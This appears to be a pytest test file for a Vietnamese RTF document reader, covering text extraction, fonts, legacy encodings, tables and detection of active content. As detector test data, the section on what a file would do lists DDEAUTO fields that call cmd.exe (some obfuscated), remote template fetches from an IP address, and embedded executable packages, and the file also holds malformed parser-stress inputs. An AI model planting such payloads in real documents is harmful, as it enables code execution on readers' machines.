"""What a person sees in an rtf file, in which font, and what the file would do."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from casework.document import FlawKind, Zone
from intake.readers.assemble import RawDocument
from intake.readers.limits import Limits
from intake.readers.reading import read_file
from intake.readers.rtf.reader import read
from tests.builders.corpus import corpus_files, shared_files
from tests.builders.legacy import encode
from tests.builders.ole import build_ole
from tests.builders.rtf import (
    Raw,
    build_rtf,
    official_tail,
    ole1,
    para,
    picture,
    run,
    table,
    text_box,
)

LIMITS = Limits()


def texts(raw: RawDocument, zone: Zone | None = None) -> list[str]:
    assert raw.lines is not None
    return ["".join(p.text for p in line.pieces) for line in raw.lines if zone is None or line.zone is zone]


def body(rtf: str) -> list[str]:
    return texts(read(build_rtf([Raw(rtf)]), LIMITS))


def kinds(raw: RawDocument) -> list[FlawKind]:
    return [flaw.kind for flaw in raw.flaws]


def test_paragraphs_breaks_and_places() -> None:
    raw = read(build_rtf(["một", "", "hai\nba", table([["a", "b"], ["c"]]), "sau"]), LIMITS)
    assert raw.lines is not None
    seen = [("".join(p.text for p in line.pieces), line.where, line.zone, line.column) for line in raw.lines]
    assert seen == [
        ("một", "đoạn 1", Zone.BODY, 0),
        ("hai", "đoạn 2", Zone.BODY, 0),
        ("ba", "đoạn 2", Zone.BODY, 0),
        ("a", "bảng 1, hàng 1, ô 1", Zone.TABLE, 1),
        ("b", "bảng 1, hàng 1, ô 2", Zone.TABLE, 2),
        ("c", "bảng 1, hàng 2, ô 1", Zone.TABLE, 0),
        ("sau", "đoạn 3", Zone.BODY, 0),
    ]


def test_every_part_has_its_zone() -> None:
    raw = read(
        build_rtf(
            ["thân", para("có hộp", text_box("hộp"))],
            header=["đầu"],
            footer=["chân"],
            footnotes=["chú thích"],
            info={"title": "tên", "subject": "chủ đề", "keywords": "khóa"},
            head="\\nofpages7",
        ),
        LIMITS,
    )
    assert raw.lines is not None
    assert [("".join(p.text for p in line.pieces), line.zone, line.where) for line in raw.lines] == [
        ("đầu", Zone.HEADER, "đầu trang"),
        ("thân", Zone.BODY, "đoạn 1"),
        ("có hộp", Zone.BODY, "đoạn 2"),
        ("hộp", Zone.TEXT_BOX, "hộp văn bản 1"),
        ("x", Zone.BODY, "đoạn 3"),
        ("chân", Zone.FOOTER, "chân trang"),
        ("chú thích", Zone.NOTE, "chú thích chân trang 1"),
        ("tên", Zone.METADATA, "thuộc tính “tiêu đề” của tệp"),
        ("chủ đề", Zone.METADATA, "thuộc tính “chủ đề” của tệp"),
        ("khóa", Zone.METADATA, "thuộc tính “từ khóa” của tệp"),
    ]
    assert (raw.pages, raw.title, raw.flaws) == (7, "tên", ())


@pytest.mark.parametrize(
    ("rtf", "expected"),
    [
        ("a\\par b\\par", ["a", "b"]),
        ("a\\\nb\\par", ["a", "b"]),
        ("{\\upr{sai}{\\*\\ud{\\u273?\\u250\\'fang}}}\\par", ["đúng"]),
        ("\\uc2 \\u7879??!\\par", ["ệ!"]),
        ("\\uc0 \\u7879 x\\par", ["ệx"]),
        ("{\\uc3\\u7879 abc}def\\par", ["ệdef"]),
        ("\\u7879{x}\\par", ["ệx"]),
        ("\\u-10179?\\u-8704?\\par", ["😀"]),
        ("\\u7879\\'3f\\'e0\\par", ["ệà"]),
        ("\\u7879\\par sau\\par", ["ệ", "sau"]),
        ("ch\\'ad a\\-b\\_c\\~d\\par", ["ch\u00ad a\u00adb-c\u00a0d"]),
        ("{\\field{\\*\\fldinst PAGE}{\\fldrslt 12}} trang\\par", ["12 trang"]),
        ('{\\field{\\*\\fldinst {HYPERLINK "http://x.vn"}}{\\fldrslt {\\b x}.vn}}\\par', ["x.vn"]),
        ("{\\*\\khongbiet nuốt}còn\\par", ["còn"]),
        ("{\\v ẩn}hiện\\par", ["hiện"]),
        ("{\\deleted bỏ}còn {\\v0 x}\\par", ["còn x"]),
        ("bo\\deleted\\par\\deleted0 i\\par", ["boi"]),
        ("{\\caps mật}\\par", ["MẬT"]),
        ("{\\listtext 1.\\tab}mục\\par", ["mục"]),
        ("a{\\*\\bkmkstart _Toc1}{\\xe chỉ mục}b\\par", ["ab"]),
        ("\\ldblquote x\\rdblquote\\emdash y\\bullet\\par", ["“x”—y•"]),
        ("a\\page b\\par", ["a", "b"]),
        ("x{\\shp{\\*\\shpinst{\\sp{\\sn gtextUNICODE}{\\sv TUYET}}}}\\par", ["x", "TUYET"]),
        ("x{\\*\\do\\dobxpage{\\dptxbxtext\\pard trong\\par}}\\par", ["x", "trong"]),
    ],
)
def test_what_stands(rtf: str, expected: list[str]) -> None:
    escaped = "".join(c if c.isascii() else f"\\u{ord(c)}?" for c in rtf)
    assert body(escaped) == expected


def test_a_font_is_that_of_the_letters_not_of_the_name_before() -> None:
    raw = read(
        build_rtf(
            [para(run("TCVN", font=".VnTime"), run("đậm", font="Arial", bold=True), run("thường"))],
        ),
        LIMITS,
    )
    assert raw.lines is not None
    assert [(p.text, p.font, p.bold) for p in raw.lines[0].pieces] == [
        ("TCVN", ".VnTime", False),
        ("đậm", "Arial", True),
        ("thường", "Times New Roman", False),
    ]


def test_high_letters_stand_in_the_font_of_their_slot() -> None:
    rtf = Raw("\\pard\\plain {\\hich\\af1\\dbch\\af0\\loch\\f0 a\\'b5}{\\f1 x}\\par")
    raw = read(build_rtf([rtf, para("y", font=".VnTime")]), LIMITS)
    assert raw.lines is not None
    assert [(p.text, p.font) for p in raw.lines[0].pieces] == [("aµx", ".VnTime")]


def test_a_style_gives_its_font_where_the_paragraph_names_none() -> None:
    styles = "{\\stylesheet{\\f0 Normal;}{\\s5\\sbasedon6 Con;}{\\s6{font:.VnTimeH}{\\*\\keycode x} Cha;}}"
    raw = read(build_rtf([Raw("\\pard\\plain\\s5 CON\\par \\pard\\plain\\s6 x\\f0 y\\par")], styles=styles), LIMITS)
    assert raw.lines is not None
    assert [[(p.text, p.font) for p in line.pieces] for line in raw.lines] == [
        [("CON", ".VnTimeH")],
        [("x", ".VnTimeH"), ("y", "Times New Roman")],
    ]


def test_styles_in_a_circle_end() -> None:
    styles = "{\\stylesheet{\\s1\\sbasedon2 A;}{\\s2\\sbasedon1 B;}}"
    assert texts(read(build_rtf([Raw("\\pard\\plain\\s1 x\\par")], styles=styles), LIMITS)) == ["x"]


def test_legacy_bytes_come_out_as_they_are_stored() -> None:
    stored = encode("Trường Đại học Cần Thơ", "tcvn3")
    raw = read(build_rtf([para(stored, font=".VnTime")], charsets={".VnTime": 163}), LIMITS)
    assert texts(raw) == [stored]


def test_vietnamese_code_page_is_unicode() -> None:
    # Windows-1258 stores ế as ê and a combining acute.
    stored = "Vi\\'ea\\'f2t Nam th\\'f4ng b\\'e1o ti\\'ea\\'ecng"
    raw = read(build_rtf([Raw(f"\\pard\\plain {stored}\\par")], charsets={"Times New Roman": 163}, page=1258), LIMITS)
    assert texts(raw) == ["Viê\u0323t Nam thông báo tiê\u0301ng"]
    document = read_file(build_rtf([Raw(f"\\pard {stored}\\par")], charsets={"Times New Roman": 163}), path="a.rtf",
                         name="a.rtf", limits=LIMITS)  # fmt: skip
    assert [count.encoding for count in document.encodings] == ["unicode"]


def test_a_code_page_that_the_letters_contradict_is_not_believed() -> None:
    prose = "Ủy ban nhân dân tỉnh đề nghị các sở, ban, ngành thực hiện đúng quy định về cấp giấy phép xây dựng"
    content = build_rtf([para(encode(prose, "tcvn3"))], charsets={"Times New Roman": 163}, page=1258)
    document = read_file(content, path="a.rtf", name="a.rtf", limits=LIMITS)
    assert document.encodings[0].encoding == "tcvn3"
    assert document.lines[0].text.lower() == prose.lower()


@pytest.mark.parametrize("page", [0, 1252, 1258, 65001, 99999])
def test_any_code_page_reads_ascii(page: int) -> None:
    assert texts(read(build_rtf(["abc"], page=page), LIMITS)) == ["abc"]


def test_nested_tables_keep_their_cells() -> None:
    inner = (
        "\\pard\\plain\\intbl\\itap2 trong 1\\nestcell trong 2\\nestcell "
        "{\\*\\nesttableprops\\trowd\\cellx500\\cellx900\\nestrow}{\\nonesttables\\par }"
    )
    outer = "\\trowd\\cellx1\\cellx2\\pard\\plain\\intbl a\\par "
    rtf = f"{outer}{inner}\\pard\\plain\\intbl b\\cell c\\cell\\row\\pard d\\par"
    raw = read(build_rtf([Raw(rtf)]), LIMITS)
    assert raw.lines is not None
    assert [("".join(p.text for p in line.pieces), line.where, line.column) for line in raw.lines] == [
        ("a", "bảng 1, hàng 1, ô 1", 1),
        ("trong 1", "bảng 2, hàng 1, ô 1", 1),
        ("trong 2", "bảng 2, hàng 1, ô 2", 2),
        ("b", "bảng 1, hàng 1, ô 1", 1),
        ("c", "bảng 1, hàng 1, ô 2", 2),
        ("d", "đoạn 1", 0),
    ]


def test_a_row_is_a_row_though_its_paragraphs_do_not_say_so() -> None:
    raw = read(build_rtf([Raw("\\pard\\trowd\\cellx1\\cellx2 a\\cell b\\cell\\row\\pard c\\par")]), LIMITS)
    assert raw.lines is not None
    assert [(line.zone, line.column) for line in raw.lines] == [(Zone.TABLE, 1), (Zone.TABLE, 2), (Zone.BODY, 0)]


@pytest.mark.parametrize("font", ["Times New Roman", ".VnTime"])
def test_recipients_beside_the_signature_come_out_item_by_item(font: str) -> None:
    items = ["- Như Điều 3;", "- Bộ Nội vụ (để báo cáo);", "- TTCNTT để đăng tải trên Cổng TTĐT Bộ;", "- Lưu: VT, TH."]
    head = ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "Số: 12/QĐ-SNV",
            "Hà Nội, ngày 2 tháng 4 năm 2026", "QUYẾT ĐỊNH", "Về việc cấp giấy phép xây dựng"]  # fmt: skip

    def stored(text: str) -> str:
        return encode(text, "tcvn3") if font == ".VnTime" else text

    title = [stored("KT. GIÁM ĐỐC"), stored("PHÓ GIÁM ĐỐC")]
    label = stored("Nơi nhận:")
    tail = official_tail([stored(item) for item in items], title, stored("Phạm Thị Lan"), font=font, label=label)
    content = build_rtf([*(para(stored(line), font=font) for line in head), tail])
    document = read_file(content, path="a.rtf", name="a.rtf", limits=LIMITS)
    assert document.anatomy.recipients == (
        "Như Điều 3", "Bộ Nội vụ (để báo cáo)", "TTCNTT để đăng tải trên Cổng TTĐT Bộ", "Lưu: VT, TH",
    )  # fmt: skip


# --- what the file would do ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rtf",
    [
        "{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe}{\\fldrslt x}}",
        "{\\field{\\*\\fldinst {DD}{\\b E}{ cmd}}{\\fldrslt x}}",
        "{\\field{\\*\\fldinst {QUOTE 68 68 69 65 85 84 79} cmd}{\\fldrslt x}}",
        "{\\*\\template http://203.0.113.9/a.dotm}",
        "{\\*\\template \\\\\\\\203.0.113.9\\\\a\\\\b.dotm}",
        "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 00}}",
        "{\\object\\objocx{\\*\\objdata 00}}",
    ],
)
def test_what_runs_or_fetches_is_active(rtf: str) -> None:
    assert kinds(read(build_rtf([Raw(rtf + "x\\par")]), LIMITS)) == [FlawKind.ACTIVE]


@pytest.mark.parametrize(
    "rtf",
    [
        '{\\field{\\*\\fldinst HYPERLINK "http://x.vn"}{\\fldrslt DDEAUTO}}',
        "{\\*\\template C:\\\\Users\\\\Normal.dotm}",
        "{\\*\\template Normal.dot}",
        "{\\object\\objemb{\\*\\objclass Excel.Sheet.8}{\\*\\objdata 00}}",
        "DDEAUTO trong lời văn",
    ],
)
def test_what_only_shows_is_not(rtf: str) -> None:
    escaped = "".join(c if c.isascii() else f"\\u{ord(c)}?" for c in rtf)
    assert read(build_rtf([Raw(escaped + " x\\par")]), LIMITS).flaws == ()


def embedded(data: bytes, *, objclass: str = "Word.Document.8", noise: str = "") -> RawDocument:
    digits = data.hex()[:10] + noise + data.hex()[10:]
    rtf = f"{{\\object\\objemb{{\\*\\objclass {objclass}}}{{\\*\\objdata {digits}}}{{\\result x}}}}"
    return read(build_rtf([Raw(rtf + "\\par")]), LIMITS)


def test_a_package_is_found_whatever_class_the_file_states() -> None:
    native = b"\x02\0" + b"setup.exe\0C:\\setup.exe\0"
    wrapped = build_ole({"\x01Ole10Native": len(native).to_bytes(4, "little") + native})
    assert kinds(embedded(ole1("Package", native))) == [FlawKind.ACTIVE]
    assert kinds(embedded(ole1("Excel.Sheet.8", wrapped))) == [FlawKind.ACTIVE]
    assert kinds(embedded(ole1("Excel.Sheet.8", wrapped), noise="{\\*\\x}\r\n\\'00 zz ")) == [FlawKind.ACTIVE]
    assert kinds(embedded(ole1("Word.Document.8", b"MZ\x90\0" + bytes(60)))) == [FlawKind.ACTIVE]


def test_a_link_to_another_machine_is_active_and_one_on_the_disk_is_not() -> None:
    assert kinds(embedded(ole1("Excel.Sheet.8", b"", kind=1, topic="\\\\203.0.113.9\\a.xls"))) == [FlawKind.ACTIVE]
    assert embedded(ole1("Excel.Sheet.8", b"", kind=1, topic="C:\\a.xls")).flaws == ()


def test_an_embedded_sheet_is_ordinary() -> None:
    raw = embedded(ole1("Excel.Sheet.8", build_ole({"Workbook": bytes(100)})), objclass="Excel.Sheet.8")
    assert raw.flaws == ()
    assert texts(raw) == ["x"]


@pytest.mark.parametrize("binary", [False, True])
def test_a_picture_is_counted_once(binary: bool) -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 3)).save(buffer, "PNG")
    raw = read(build_rtf([para("a", picture(buffer.getvalue(), binary=binary)), "b"]), LIMITS)
    assert [(p.format, p.width, p.height, p.where) for p in raw.pictures] == [("png", 4, 3, "đoạn 1")]
    assert texts(raw) == ["a", "b"]


# --- damage and bounds --------------------------------------------------------------------------------------------


def test_a_file_cut_short_is_read_as_far_as_it_goes() -> None:
    content = build_rtf(["một", "hai", para("ba", text_box("bốn"))])
    raw = read(content[: content.index(b"shptxt") + 12], LIMITS)
    assert texts(raw)[:2] == ["một", "hai"]
    assert kinds(raw) == [FlawKind.UNREADABLE]


def test_a_forgotten_last_brace_is_no_damage() -> None:
    raw = read(build_rtf(["một"]).rstrip(b"}"), LIMITS)
    assert (texts(raw), raw.flaws) == (["một"], ())


def test_no_rtf_at_all() -> None:
    assert kinds(read(b"{\\notrtf}", LIMITS)) == [FlawKind.UNREADABLE]


def test_a_length_that_lies_takes_what_is_there() -> None:
    assert texts(read(b"{\\rtf1 a\\par{\\pict\\bin99999999 xyz}}", LIMITS)) == ["a"]
    assert texts(read(b"{\\rtf1 a\\bin-5 b\\par}", LIMITS)) == ["ab"]


@pytest.mark.parametrize(
    ("content", "limits", "name"),
    [
        (b"{\\rtf1 " + b"{" * 500 + b"x", LIMITS, "rtf_depth"),
        (b"{\\rtf1 " + b"{}" * 500 + b"x}", Limits(rtf_tokens=100), "rtf_tokens"),
    ],
)
def test_a_bound_names_itself(content: bytes, limits: Limits, name: str) -> None:
    raw = read(content, limits)
    assert kinds(raw) == [FlawKind.LIMIT]
    assert name in raw.flaws[0].detail


def test_more_lines_than_allowed_are_named() -> None:
    document = read_file(b"{\\rtf1 " + b"x\\par " * 50 + b"}", path="a", name="a.rtf", limits=Limits(text_lines=10))
    assert [flaw.kind for flaw in document.flaws] == [FlawKind.LIMIT]
    assert len(document.lines) == 10


@pytest.mark.parametrize(
    "content",
    [
        b"{\\rtf1" + b"{\\*\\shpinst{\\shptxt " * 150 + b"x",
        b"{\\rtf1" + b"{\\footnote " * 150 + b"x",
        b"{\\rtf1\\trowd" + b"\\itap99999999 x\\nestcell" * 200,
        b"{\\rtf1\\intbl" + b"\\itap19 x\\par\\itap1 y\\par" * 2000,
        b"{\\rtf1" + b"{\\field{\\*\\fldinst x" * 150,
        b"{\\rtf1{\\fonttbl" + b"\\f99999999 A;" * 1000 + b"}x",
        b"{\\rtf1\\u99999999999 \\u-99999999 \\u56320 x}",
        b"{\\rtf1\\uc-4\\u300 x\\uc99999\\u300 x}",
        b"{\\rtf1}}}}}} x",
        b"{\\rtf1\\cell\\row\\nestrow\\nestcell\\row x}",
        b"{\\rtf1 \\",
        b"{\\rtf1 \\'",
    ],
)
def test_hostile_structure_is_read_and_ends(content: bytes) -> None:
    read(content, LIMITS)


# --- real files ---------------------------------------------------------------------------------------------------


@pytest.mark.corpus
def test_real_files_read_as_their_transcripts() -> None:
    for path in corpus_files("viparse-corpus/corpus/public-domain/*/*.rtf"):
        (truth,) = shared_files(f"corpus/viparse-corpus/ground-truth/{path.stem}.txt")
        document = read_file(path.read_bytes(), path=path.name, name=path.name, limits=LIMITS)
        body = "".join(line.text for line in document.lines if line.zone in (Zone.BODY, Zone.TABLE))
        expected = [c for c in truth.read_text(encoding="utf-8").lower() if c.isalnum()]
        assert [c for c in body.lower() if c.isalnum()] == expected, path.name  # transcripts leave out page headers
        assert [count.encoding for count in document.encodings] == ["tcvn3"]
        assert document.flaws == ()
